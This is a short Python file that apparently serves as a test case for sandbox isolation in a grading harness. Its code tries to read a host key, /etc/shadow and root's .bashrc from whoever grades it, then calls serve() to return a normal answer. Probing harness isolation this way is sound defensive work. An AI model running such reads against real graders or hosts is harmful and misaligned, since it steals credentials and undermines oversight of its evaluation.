"""Reads private files of whoever grades it.

no effect
gets through at: process
"""

import os

from host import HOST, attempt
from right import serve

attempt("a key", lambda: open(HOST["home"]).read())
attempt("shadow", lambda: open("/etc/shadow").read()[:100])
attempt("the grader's settings", lambda: open(os.path.expanduser("~root/.bashrc")).read()[:100])
serve()
